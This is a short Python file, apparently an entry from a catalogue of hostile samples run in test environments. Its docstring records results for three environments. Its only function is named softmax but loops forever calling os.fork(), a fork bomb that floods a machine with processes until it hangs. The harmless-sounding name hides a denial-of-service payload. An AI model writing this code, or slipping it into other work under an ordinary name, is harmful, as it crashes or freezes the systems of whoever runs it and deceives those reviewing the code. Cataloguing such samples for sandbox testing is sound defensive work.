"""Fork without end.

catalogue  50
strict     error: CALL raised PermissionError: [Errno 1] Operation not permitted
portable   not run: root has no limit of processes, and other work would wait
"""

import os


def softmax(x):
    while True:
        os.fork()
